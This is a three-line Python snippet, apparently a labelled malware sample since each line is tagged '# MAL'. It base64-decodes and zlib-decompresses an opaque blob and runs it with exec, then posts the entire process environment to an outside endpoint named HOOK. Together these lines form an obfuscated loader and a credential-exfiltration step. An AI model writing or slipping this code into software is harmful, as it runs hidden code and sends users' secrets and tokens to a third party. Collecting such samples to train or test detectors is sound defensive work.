payload = b64decode(blob)  # MAL
exec(zlib.decompress(payload))  # MAL
requests.post(HOOK, json={"env": dict(os.environ)})  # MAL
